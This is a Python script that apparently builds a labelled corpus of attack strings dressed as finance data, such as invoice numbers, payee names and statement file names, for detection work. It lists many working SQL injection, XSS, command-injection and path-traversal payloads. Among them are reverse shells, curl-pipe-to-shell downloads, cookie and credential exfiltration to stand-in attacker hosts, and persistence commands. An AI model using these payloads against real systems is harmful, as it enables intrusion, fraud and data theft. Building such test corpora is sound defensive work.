#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in finance and accounting text.

The benign corpus (make_benign.py) holds what a bank's API, an ERP, a
payments gateway, a trading platform and a tax-filing service receive:
payment references, invoice lines, spreadsheet formulas, journal entries,
orders and tickers, tax citations, fraud notes, customer messages, merchant
descriptors, webhook payloads and report queries.  The attacks below wear the
same clothes: an invoice number search with a UNION, a payee name that a
back-office console renders with a `<script>`, a statement export file name
with `; curl ... | sh`, a statement download path with `../`, a payment
webhook URL pointed at the cloud metadata service, a payee name that becomes
a formula in the CSV export, an invoice e-mail template field evaluated by
Jinja, an ISO 20022 upload with an external entity, Log4Shell in a payment
reference, a MongoDB operator in an account lookup, CR/LF in a statement
field or a mail header, and LDAP or XPath injection in an approver lookup.
About one value in ten is a plain attack with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, Kubernetes service and RFC 1918 addresses.  The
"attacker" IBAN GB00ATTK00000000000000 is deliberately invalid.

Standard library only, deterministic (random.Random(2702)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2702)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}

EVIL_IBAN = "GB00ATTK00000000000000"


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def dec_entities(s):
    return "".join("&#%d;" % ord(c) for c in s)


def js_unicode(s):
    return "".join("\\u%04x" % ord(c) for c in s)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


# ====================================================================== sqli
def sqli():
    lit = [
        ("invoice-search-union-users", "INV-2024-0042' UNION SELECT username, password_hash, NULL, NULL FROM app_users-- -"),
        ("iban-filter-tautology", "DE61700100800987654321' OR '1'='1"),
        ("merchant-filter-time-blind-mysql", "SQ *COFFEE CO' AND SLEEP(5)-- -"),
        ("ticker-lookup-union-information-schema", "AAPL' UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
        ("currency-filter-stacked-update-overdraft", "EUR'; UPDATE accounts SET overdraft_limit=999999 WHERE iban='DE61700100800987654321';--"),
        ("amount-min-numeric-tautology", "0 OR 1=1"),
        ("report-sort-column-case-blind-api-key", "(CASE WHEN (SELECT substr(api_key,1,1) FROM merchants WHERE id=88123)='s' THEN amount ELSE booked_at END)"),
        ("statement-period-pg-sleep", "2024-05' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
        ("customer-id-mssql-waitfor", "10442; WAITFOR DELAY '0:0:7'--"),
        ("payee-name-error-extractvalue", "Brien' AND extractvalue(1,concat(0x7e,(SELECT iban FROM payees WHERE owner_id=1 LIMIT 1)))-- -"),
        ("gl-account-filter-union-pg-shadow", "6000' UNION SELECT NULL, usename, passwd FROM pg_shadow--"),
        ("cost-center-stacked-insert-admin", "410'); INSERT INTO users(email, role, pw_hash) VALUES ('ops@attacker.example','admin','$2b$12$FAKEFAKEFAKEFAKEFAKEFAKE');--"),
        ("tax-id-lookup-error-updatexml", "DE123456789' AND updatexml(1,concat(0x3a,version(),0x3a,user()),1)-- -"),
        ("card-last4-boolean-substring-pan", "4421' AND ASCII(SUBSTRING((SELECT pan FROM cards ORDER BY id LIMIT 1),1,1))>52-- -"),
        ("fx-pair-pg-cast-error-exfil", "EUR/USD' AND 1=CAST((SELECT string_agg(secret,',') FROM api_keys) AS int)--"),
        ("bic-lookup-union-sqlite-master", "PBNKDEFF' UNION SELECT name, sql FROM sqlite_master--"),
        ("export-columns-subquery-exfil", "id, amount, (SELECT password FROM users WHERE role='admin' LIMIT 1) AS memo"),
        ("report-order-direction-sleep", "desc, (SELECT 1 FROM (SELECT SLEEP(4))x)"),
        ("date-from-mssql-xp-cmdshell", "2024-05-01'; EXEC master..xp_cmdshell 'powershell -c iwr http://203.0.113.14/a.ps1|iex';--"),
        ("memo-search-pg-copy-to-program", "rent'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.14/x|sh';--"),
        ("invoice-search-into-outfile-webshell", "INV-1' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/inv/c.php'-- -"),
        ("branch-code-oracle-utl-inaddr-oob", "0514' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.ora.attacker.example')--"),
        ("ledger-memo-mssql-xp-dirtree-oob", "accrual'; EXEC master..xp_dirtree '\\\\sql.attacker.example\\s';--"),
        ("trade-search-benchmark", "MSFT' AND BENCHMARK(8000000,SHA1('x'))-- -"),
        ("account-number-stacked-delete-audit", "0987654321; DELETE FROM audit_log WHERE actor='teller42';--"),
        ("swift-ref-union-all-nulls", ":20:PAY240517' UNION ALL SELECT NULL,NULL,NULL,concat(login,':',pw_hash),NULL FROM operators#"),
        ("fx-rate-filter-pg-read-file", "EUR'||(SELECT pg_read_file('/var/lib/postgresql/.pgpass'))||'"),
        ("pain001-msgid-stacked-drop", "MSG-2024-0517-01'); DROP TABLE payment_batches;--"),
        ("report-json-filter-tautology", '{"merchant":"88123\' OR 1=1-- -","status":"settled"}'),
        ("mcc-filter-numeric-union-vault", "5967 UNION SELECT card_number, expiry, cvv_hash FROM vault_cards"),
        ("entity-filter-clickhouse-system-users", "DE01' UNION ALL SELECT name, auth_type FROM system.users--"),
        ("ticker-lookup-union+comment-spaces", "AAPL'/**/UNION/**/SELECT/**/login,secret/**/FROM/**/api_clients--"),
        ("currency-filter-union+mixed-case", "EUR' uNiOn SeLeCt iban,balance FrOm accounts-- -"),
        ("invoice-search-tautology+urlenc", q("INV-0042' OR 1=1-- -")),
        ("verwendungszweck-search-tautology-german", "Miete Mai' OR 'a'='a"),
        ("concepto-search-union-spanish", "factura 0311' UNION SELECT usuario, clave FROM usuarios-- -"),
        ("symbol-filter-sqlite-randomblob", "SAP.DE' AND 1=randomblob(900000000)--"),
        ("report-sort-if-admin-count", "IF((SELECT COUNT(*) FROM users WHERE role='admin')>1,amount,booked_at)"),
        ("account-id-mssql-sysobjects", "1 UNION SELECT name, NULL FROM sysobjects WHERE xtype='U'"),
        ("beneficiary-name-oracle-all-tables", "X' UNION SELECT table_name, owner FROM all_tables-- "),
        ("gl-account-stacked-alter-superuser", "5020'; ALTER USER report_ro WITH SUPERUSER;--"),
        ("page-offset-pg-ls-dir", "0; SELECT pg_ls_dir('/var/lib/postgresql/data');--"),
        ("merchant-id-stacked-update-payout-iban", "88123; UPDATE merchants SET payout_iban='%s' WHERE id=88123--" % EVIL_IBAN),
        ("invoice-filter-mssql-having-error", "INV' HAVING 1=1--"),
        ("statement-filter-order-by-column-probe", "2024-05' ORDER BY 9-- -"),
        ("customer-id-mssql-convert-error", "10442 AND 1=CONVERT(int,(SELECT TOP 1 password FROM dbo.users))"),
        ("invoice-search-load-file", "x' UNION SELECT load_file('/etc/mysql/debian.cnf'),2-- -"),
        ("iban-prefix-like-blind-password", "DE' AND (SELECT password FROM users WHERE username='cfo') LIKE 'a%'-- -"),
        ("ticker-lookup-double-quote-tautology", "AAPL\" OR \"1\"=\"1"),
        ("payee-name-backslash-escape-bypass", "O\\' OR 1=1-- -"),
        ("statement-filter-hex-string", "DE' AND user()=0x726f6f74406c6f63616c686f7374-- -"),
        ("merchant-search-gbk-multibyte+urlenc", "%bf%27 OR 1=1-- -"),
        ("fx-note-pg-dollar-quote-cast", "x'; SELECT $$a$$||(SELECT secret FROM api_keys LIMIT 1)::int;--"),
        ("branch-filter-oracle-dbms-pipe-sleep", "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
        ("dispute-note-insert-value-subquery", "n/a', (SELECT token FROM sessions ORDER BY created_at DESC LIMIT 1))-- -"),
        ("report-limit-procedure-analyse", "100 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)"),
        ("report-offset-pg-sleep-stacked", "20; SELECT pg_sleep(5)"),
        ("webhook-filter-pg-jsonb-tautology", "x' OR payload->>'role'='admin' OR 'a'='b"),
        ("currency-filter-union+newlines", "EUR'\nUNION\nSELECT\niban,pin_hash\nFROM\ncards--"),
        ("tax-year-boolean-blind-version", "2023 AND SUBSTRING(@@version,1,1)='8'"),
        ("swift-bic-mssql-openrowset-oob", "COBADEFF'; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.14;uid=sa;pwd=x','SELECT 1');--"),
        ("trade-id-pg-stacked-create-function", "1; CREATE OR REPLACE FUNCTION sh(text) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;--"),
        ("merchant-id-mysql-insert-on-duplicate", "88123', 'x') ON DUPLICATE KEY UPDATE role='admin'-- -"),
        ("plain-or-comment", "' OR 1=1-- -"),
        ("plain-sleep-hash", "1' AND SLEEP(3)#"),
        ("plain-paren-tautology", "') OR ('x'='x"),
        ("plain-stacked-drop", "1; DROP TABLE users--"),
        ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL-- -"),
        ("plain-comment-truncation", "admin'--"),
        ("plain-union-version", "1 AND 1=2 UNION SELECT 1,@@version,3"),
        ("plain-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
    ]
    ctxs = [("invoice-search", "INV-2024-%04d"), ("iban-filter", "DE%02d5001051706484898%02d"), ("merchant-id", "%d%d"),
            ("statement-ref", "STMT-%04d-%02d"), ("po-number", "45000%04d%02d")]
    techs = [("boolean-blind", "' AND (SELECT COUNT(*) FROM users WHERE role='admin' AND substr(pw_hash,%d,1)='%s')=1-- -"),
             ("time-blind", "' AND IF(ascii(substr(database(),%d,1))=%s,SLEEP(3),0)-- -"),
             ("union-users", "' UNION SELECT %d,login,pw_hash,'%s' FROM users-- -")]

    def gen():
        cn, cf = pick(ctxs)
        tn, tf = pick(techs)
        head = cf % (RNG.randint(1, 99), RNG.randint(1, 99))
        arg = pick("abcdef0123456789") if tn != "time-blind" else str(RNG.randint(97, 122))
        return "%s-%s" % (cn, tn), head + tf % (RNG.randint(1, 12), arg)
    return take("sqli", lit, gen, 74)


# ====================================================================== xss
def xss():
    steal = "fetch('https://attacker.example/c?'+document.cookie)"
    lit = [
        ("payee-name-script-cookie", "Acme Ltd<script>%s</script>" % steal),
        ("payment-reference-img-onerror", "/INV/2024-0042/<img src=x onerror=alert(document.domain)>"),
        ("merchant-descriptor-svg-onload-token", "SQ *<svg onload=location='//attacker.example/'+localStorage.token>"),
        ("invoice-line-attribute-breakout", "Widget A\" onmouseover=\"fetch('//attacker.example/?'+document.cookie)\" x=\""),
        ("customer-message-iframe-srcdoc+html-entities", "Hi, see below <iframe srcdoc=\"&lt;script&gt;top.location='https://attacker.example/?c='+top.document.cookie&lt;/script&gt;\"></iframe>"),
        ("fraud-note-textarea-breakout", "</textarea><script>new Image().src='//attacker.example/n?'+document.cookie</script>"),
        ("ticker-note-markdown-javascript-link", "[Q2 earnings call](javascript:fetch('//attacker.example/'+document.cookie))"),
        ("company-name-details-ontoggle+base64", "Dupont & Fils<details open ontoggle=eval(atob('%s'))>" % b64("fetch('//attacker.example/'+document.cookie)")),
        ("statement-line-title-breakout", "NETFLIX.COM</title><script src=//attacker.example/s.js></script>"),
        ("webhook-description-angularjs-expression", "{{constructor.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
        ("invoice-notes-vue-template-expression", "Thanks! {{_c.constructor('alert(document.domain)')()}}"),
        ("invoice-notes-javascript-href+html-entities", "<a href=\"%salert(document.cookie)\">View invoice</a>" % dec_entities("javascript:")),
        ("dispute-reason-js-string-breakout", "';fetch('//attacker.example/'+document.cookie);//"),
        ("customer-name-script-block-breakout", "Sean</script><script>alert(document.domain)</script>"),
        ("currency-option-select-breakout", "EUR</option></select><img src=x onerror=alert(1)>"),
        ("receipt-upload-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//attacker.example/r?'+document.cookie)</script><text y=\"20\">Receipt #4471</text></svg>"),
        ("payee-alias-svg-animate-onbegin", "Rent<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
        ("memo-meta-refresh-phishing", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/bank-login\">"),
        ("memo-base-href-hijack", "Q2 accrual <base href=\"https://attacker.example/\">"),
        ("support-message-fake-login-form", "Your session expired<form action=https://attacker.example/l method=post><input name=u placeholder=Username><input name=p type=password placeholder=Password><button>Sign in</button></form>"),
        ("invoice-notes-css-import", "<style>@import 'https://attacker.example/x.css';</style>"),
        ("statement-note-object-data-uri+base64", "<object data=\"data:text/html;base64,%s\"></object>" % b64("<script>alert(document.domain)</script>")),
        ("payee-name-img-onerror+js-unicode", "<img src=x onerror=\"%s(document.cookie)\">" % js_unicode("alert")),
        ("merchant-name-script+mixed-case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
        ("return-url-reflected-script+urlenc", q("<script>alert(document.domain)</script>")),
        ("fraud-note-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("customer-message-mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(document.domain)></style></mglyph></table></mtext></math>"),
        ("iban-field-autofocus-onfocus", "\" autofocus onfocus=alert(document.cookie) x=\""),
        ("invoice-attachment-video-source-onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
        ("payment-title-japanese-img", "お支払い確認<img src=1 onerror=alert('支払')>"),
        ("payment-title-russian-script", "Платёж №145<script>alert('oplata')</script>"),
        ("transfer-note-french-svg-template-literal", "Virement reçu <svg/onload=fetch(`//attacker.example/${document.cookie}`)>"),
        ("rechnung-title-german-iframe-javascript", "Rechnung 2024-1187 <iframe src=javascript:alert(document.domain)>"),
        ("camt-ustrd-entity-img+html-entities", "<Ustrd>&lt;img src=x onerror=alert(document.domain)&gt;</Ustrd>"),
        ("mt103-field70-script-src", ":70:/RFB/<script src=https://attacker.example/m.js></script>"),
        ("trading-chat-img-exfil", "AAPL to the moon 🚀 <img src=x onerror=\"new Image().src='https://attacker.example/?'+document.cookie\">"),
        ("order-comment-svg-tagged-template", "<svg/onload=alert`1`>"),
        ("payee-link-javascript-tab+html-entities", "<a href=\"jav&#x09;ascript:alert(document.domain)\">Pay now</a>"),
        ("receipt-markdown-image-attribute-breakout", "![receipt](x\" onerror=\"alert(document.domain))"),
        ("payee-alias-single-quote-attribute", "x' onclick='fetch(\"//attacker.example/\"+document.cookie)' y='"),
        ("invoice-notes-jquery-getscript", "<img src=/ onerror=$.getScript('//attacker.example/k.js')>"),
        ("support-message-keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
        ("payee-name-csrf-transfer", "<script>fetch('/api/transfers',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({to:'%s',amount:9999})})</script>" % EVIL_IBAN),
        ("tax-form-company-name-attr-script", "Müller GmbH\"><script>document.location='https://attacker.example/tax?'+document.cookie</script>"),
        ("receipt-title-picture-source", "<picture><source srcset=x><img src=y onerror=alert(document.domain)></picture>"),
        ("approval-comment-formaction", "<form><button formaction=javascript:alert(document.cookie)>Approve payment</button></form>"),
        ("statement-note-iframe-overlay-otp", "<iframe src=https://attacker.example/otp style=position:fixed;top:0;left:0;width:100%;height:100%;border:0></iframe>"),
        ("search-reflected-svg+double-urlenc", q(q("<svg onload=alert(document.domain)>"))),
        ("promo-banner-marquee-onstart", "<marquee onstart=alert(document.domain)>0% APR</marquee>"),
        ("merchant-name-unquoted-attribute-breakout", "x onmouseover=alert(document.cookie)"),
        ("csv-import-preview-img", "2024-05-14,<img src=x onerror=alert(document.domain)>,-4.75"),
        ("webhook-event-name-json-html", '{"event":"payment.failed","reason":"<img src=x onerror=alert(document.domain)>"}'),
        ("invoice-pdf-preview-img-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
        ("fraud-case-title-input-onfocus", "<input onfocus=alert(document.domain) autofocus>"),
        ("beneficiary-name-body-onpageshow", "<body onpageshow=alert(document.domain)>"),
        ("ticker-comment-a-onpointerover", "<a onpointerover=alert(document.cookie)>TSLA</a>"),
        ("kyc-document-name-svg-href-javascript", "passport.pdf<svg><a href=\"javascript:alert(document.domain)\"><text y=\"20\">open</text></a></svg>"),
        ("merchant-website-javascript-url", "javascript:fetch('//attacker.example/'+document.cookie)"),
        ("dispute-evidence-html-set-timeout", "<img src=x onerror=setTimeout('ale'+'rt(document.domain)')>"),
        ("invoice-template-style-onload", "<style onload=alert(document.domain)></style>"),
        ("customer-address-textarea-js-string-double-quote", "\";alert(document.cookie);//"),
        ("cardholder-name-srcdoc-nested", "<iframe srcdoc=\"<img src=x onerror=parent.alert(parent.document.domain)>\"></iframe>"),
        ("plain-script-alert", "<script>alert(1)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg onload=alert(1)>"),
        ("plain-attr-breakout-script", "\"><script>alert(document.cookie)</script>"),
        ("plain-body-onload", "<body onload=alert(1)>"),
        ("plain-iframe-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
        ("plain-single-quote-img-prompt", "'><img src=x onerror=prompt(1)>"),
        ("plain-details-ontoggle", "<details open ontoggle=alert(1)>"),
    ]
    fields = ["payee-name", "payment-reference", "merchant-descriptor", "invoice-line", "support-message", "fraud-note"]
    prefixes = ["Acme Ltd", "/INV/2024-0099/", "SQ *BAKERY", "Consulting 8h", "Hallo,", "Case 2024-FR-0912"]
    tags = [("img-onerror", "<img src=x onerror=%s>"), ("svg-onload", "<svg onload=%s>"), ("body-onfocus", "<p tabindex=1 autofocus onfocus=%s>"),
            ("audio-onerror", "<audio src=x onerror=%s>")]
    sinks = ["alert(document.domain)", "fetch('//attacker.example/'+document.cookie)", "location='https://attacker.example/'"]

    def gen():
        i = RNG.randrange(len(fields))
        tn, tf = pick(tags)
        return "%s-%s" % (fields[i], tn), "%s %s" % (prefixes[i], tf % pick(sinks))
    return take("xss", lit, gen, 74)


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("statement-export-filename-semicolon-curl-sh", "statement_2024-05.csv; curl -s http://203.0.113.14/s.sh | sh"),
        ("report-name-subshell-write", "AR-aging-$(id > /tmp/.r)"),
        ("sftp-host-backticks-wget", "sftp.bank.example`wget -qO- http://attacker.example/b|sh`"),
        ("gpg-recipient-and-exfil-passwd", "treasury@bank.example && cat /etc/passwd | nc 203.0.113.14 9001"),
        ("ticker-symbol-pipe-reverse-shell", "AAPL | bash -i >& /dev/tcp/203.0.113.14/4444 0>&1"),
        ("amount-bc-subshell-sleep", "187.20*100$(sleep 7)"),
        ("mt940-filename-newline-download", "STMT-0514.sta\ncurl http://attacker.example/m -o /tmp/m && sh /tmp/m"),
        ("invoice-number-or-dns-exfil", "INV-2024-0042 || nslookup $(whoami).inv.attacker.example"),
        ("report-cron-schedule-extra-line", "0 6 * * 1\n* * * * * root curl -s http://203.0.113.14/c | sh"),
        ("iban-validator-semicolon+ifs", "DE61700100800987654321;cat${IFS}/etc/shadow${IFS}|${IFS}nc${IFS}203.0.113.14${IFS}9001"),
        ("invoice-email-sendmail-argument-injection", "ap@vendor.example -X/var/www/html/logs/x.php -OQueueDirectory=/tmp"),
        ("pdf-report-title-wkhtmltopdf-argument-injection", "--enable-local-file-access --post-file f /etc/passwd https://attacker.example/"),
        ("export-archive-name-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/p.sh"),
        ("fx-feed-url-curl-output-argument", "-o /var/www/html/fx.php https://attacker.example/fx.txt"),
        ("bank-sftp-host-ssh-proxycommand", "-oProxyCommand=curl -s http://203.0.113.14/p|sh"),
        ("bank-upload-host-rsync-e", "-e sh -c 'id>/tmp/r' x:/y"),
        ("archive-pattern-find-exec", "*.csv -exec curl -s -F f=@{} http://attacker.example/u \\;"),
        ("statement-zip-name-zip-tt", "statements.zip -T -TT='sh -c id>/tmp/z' #"),
        ("currency-filter-awk-system", "EUR\" { system(\"curl -s http://203.0.113.14/a | sh\") } $3 == \""),
        ("currency-rename-rule-gnu-sed-e", "EUR/USD/;1e curl -s http://attacker.example/s|sh;s/x/y"),
        ("statement-file-perl-open-pipe", "curl -s http://203.0.113.14/p | sh |"),
        ("legacy-cgi-user-agent-shellshock", "() { :; }; /bin/bash -c 'curl -s http://203.0.113.14/ss|sh'"),
        ("report-file-windows-ampersand-iex", "Q2_report.xlsx & powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.14/r.ps1')\""),
        ("credit-note-powershell-enc+base64", "CN-0007 & powershell -nop -w hidden -enc " + ps_enc("iwr http://203.0.113.14/w.ps1 -UseBasicParsing | iex")),
        ("ledger-export-certutil+caret", "ledger.csv & c^e^r^t^u^t^i^l -urlcache -split -f http://203.0.113.14/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
        ("ebics-host-id-net-user-add", "EBICS01 | net user fin_svc FAKE-Passw0rd! /add && net localgroup administrators fin_svc /add"),
        ("batch-id-base64-pipe+base64", "B-0517; echo %s | base64 -d | sh" % b64("curl -s http://attacker.example/k | sh")),
        ("invoice-number-quote-splitting+quotes", "INV-7;c'u'r'l' -s http://203.0.113.14/q|s\"h\""),
        ("tax-year-backslash-splitting+backslash", "2024;w\\g\\e\\t -q -O- http://203.0.113.14/b | b\\a\\s\\h"),
        ("report-name-printf-hex+hex", "x;$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')"),
        ("currency-variable-splitting+var-split", "EUR;a=cu;b=rl;$a$b -s http://203.0.113.14/v|sh"),
        ("report-name-brace-expansion+brace", "report;{wget,-qO-,http://203.0.113.14/br}|sh"),
        ("tax-year-newline-curl+urlenc", "2023%0acurl%20-s%20http://203.0.113.14/t%7Csh"),
        ("ebics-host-ping-semicolon", "ebics.bank.example;id;uname -a"),
        ("bank-connect-test-subshell-hostname", "$(curl -s http://203.0.113.14/h|sh).bank.example"),
        ("invoice-logo-filename-double-quote-break", "logo.png\"; curl -s http://203.0.113.14/im | sh; echo \""),
        ("invoice-pdf-name-single-quote-tar-exfil", "invoice_0042.pdf'; tar czf - /srv/ledger | curl -T - http://203.0.113.14/u; echo '"),
        ("fx-feed-url-wget-post-file", "--post-file=/etc/passwd http://203.0.113.14/p"),
        ("statement-title-russian-semicolon", "Выписка за май; curl -s http://203.0.113.14/r | sh"),
        ("kontoauszug-filename-german-and", "Kontoauszug_Mai.pdf && wget -q http://attacker.example/k -O /tmp/k; sh /tmp/k"),
        ("invoice-filename-japanese-nc-e", "請求書_0815.pdf; nc 203.0.113.14 4444 -e /bin/sh"),
        ("export-name-mkfifo-reverse-shell", "x; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.14 4444 > /tmp/f"),
        ("ticker-python-reverse-shell", "AAPL;python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.14\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
        ("quarter-param-subshell-environ-exfil", "Q2$(curl -s -d @/proc/self/environ http://203.0.113.14/e)"),
        ("currency-backticks-dns-exfil", "EUR`nslookup $(hostname).fx.attacker.example`"),
        ("report-filename-crontab-persistence", "report.csv; (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.14/c|sh') | crontab -"),
        ("statement-name-authorized-keys", "x && echo 'ssh-ed25519 AAAAFAKEKEYFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
        ("ticker-aws-credentials-dev-tcp", "AAPL; cat ~/.aws/credentials > /dev/tcp/203.0.113.14/9001"),
        ("batch-name-background-sleep", "batch_0517 & sleep 10 &"),
        ("quarter-file-windows-pipe-type", "Q1.xlsx | type C:\\inetpub\\wwwroot\\web.config"),
        ("currency-powershell-quote-break-upload", "EUR'; Invoke-WebRequest -Uri http://203.0.113.14/x -Method POST -InFile C:\\finance\\keys.pfx; '"),
        ("gpg-keyid-semicolon-shred", "0xFAKE1234ABCD; shred -u /srv/payments/outbox/*.xml"),
        ("nacha-filename-subshell-scp", "ACH_20240517.txt$(scp -o StrictHostKeyChecking=no /srv/keys/ach.pem x@203.0.113.14:)"),
        ("swift-bic-semicolon-hex-ip+hex-ip", "PBNKDEFF;curl -s http://0xcb00710e/x|sh"),
        ("isin-lookup-newline-python", "US0378331005\npython3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.14/p').read())\""),
        ("report-email-subject-mail-subshell", "Monthly P&L $(cat /etc/passwd | mail -s x leak@attacker.example)"),
        ("pdf-merge-pdftk-input-semicolon", "cover.pdf inv1.pdf; id > /srv/exports/out.txt; #"),
        ("zip-password-backticks", "`curl -s http://attacker.example/zp|sh`"),
        ("sftp-port-semicolon+mixed-case", "22;CuRl -s http://203.0.113.14/mc|Sh"),
        ("csv-delimiter-param-subshell", ";$(touch /tmp/.d)"),
        ("statement-id-windows-double-ampersand", "STMT-0514 && whoami > C:\\inetpub\\wwwroot\\w.txt"),
        ("bank-host-dollar-ifs-nohup+ifs", "bank.example;nohup$IFS$9sh$IFS-c$IFS'curl -s http://203.0.113.14/n|sh'&"),
        ("plain-semicolon-id", "; id"),
        ("plain-pipe-whoami", "| whoami"),
        ("plain-subshell-id", "$(id)"),
        ("plain-backticks-uname", "`uname -a`"),
        ("plain-and-passwd", "&& cat /etc/passwd"),
        ("plain-sleep-comment", "; sleep 10 #"),
        ("plain-or-ping", "|| ping -c 5 127.0.0.1"),
    ]
    fields = [("export-filename", "export_%s.csv"), ("ticker-symbol", "%s"), ("sftp-host", "sftp%s.bank.example"), ("invoice-number", "INV-%s")]
    seps = [("semicolon", "; %s"), ("and", " && %s"), ("pipe", " | %s"), ("subshell", "$(%s)"), ("newline", "\n%s")]
    cmds = ["curl -s http://203.0.113.%d/x | sh", "wget -qO- http://203.0.113.%d/y | sh", "nc 198.51.100.%d 4444 -e /bin/sh"]

    def gen():
        fn, ff = pick(fields)
        sn, sf = pick(seps)
        base = ff % pick(["2024-05", "AAPL", "01", "0042", "Q2", "TSLA", "02", "0813"])
        return "%s-%s" % (fn, sn), base + sf % (pick(cmds) % RNG.randint(2, 250))
    return take("cmdi", lit, gen, 74)


# ====================================================================== traversal
def traversal():
    lit = [
        ("statement-download-dotdot-passwd", "statements/2024/../../../../../etc/passwd"),
        ("invoice-pdf-dotdot-dotenv", "INV-2024-0042/../../../../app/.env"),
        ("receipt-attachment-backslash-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("report-template-database-yml", "../../config/database.yml"),
        ("tax-form-template-shadow", "forms/1040/../../../../../../etc/shadow"),
        ("locale-file-proc-self-environ", "../../../../proc/self/environ"),
        ("export-dir-absolute-ssh-key", "/root/.ssh/id_rsa"),
        ("statement-archive-entry-zip-slip-cron", "../../../../etc/cron.d/stmt"),
        ("statement-archive-entry-zip-slip-authorized-keys", "../../../../home/finops/.ssh/authorized_keys"),
        ("csv-mapping-file-parameters-yml", "mappings/../../../../var/www/app/config/parameters.yml"),
        ("invoice-logo-ebics-keys", "../../../../opt/ebics/keys/bank-keys.pem"),
        ("statement-download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("receipt-download-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
        ("statement-download-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ("invoice-pdf-dotdot+null-byte", "../../../../etc/passwd%00.pdf"),
        ("report-file-nested-strip+nested", "....//....//....//....//etc/passwd"),
        ("receipt-download-backslash+urlenc-backslash", "..%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
        ("statement-file-mixed-separators+mixed", "..\\/..\\/..\\/..\\/etc/passwd"),
        ("export-file-dots-only+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/var/lib/postgresql/.pgpass"),
        ("receipt-attachment-windows-sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
        ("import-file-absolute-unattend", "C:\\Windows\\Panther\\Unattend.xml"),
        ("statement-download-k8s-sa-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("invoice-template-aws-credentials", "../../../../root/.aws/credentials"),
        ("report-file-git-config", "../../.git/config"),
        ("log-viewer-absolute-proc-cmdline", "/proc/self/cmdline"),
        ("attachment-docker-config", "../../../../root/.docker/config.json"),
        ("restore-target-sudoers-write", "../../../../etc/sudoers.d/finops"),
        ("mt940-import-path-client-key", "inbox/../../../../../etc/ssl/private/bank-client.key"),
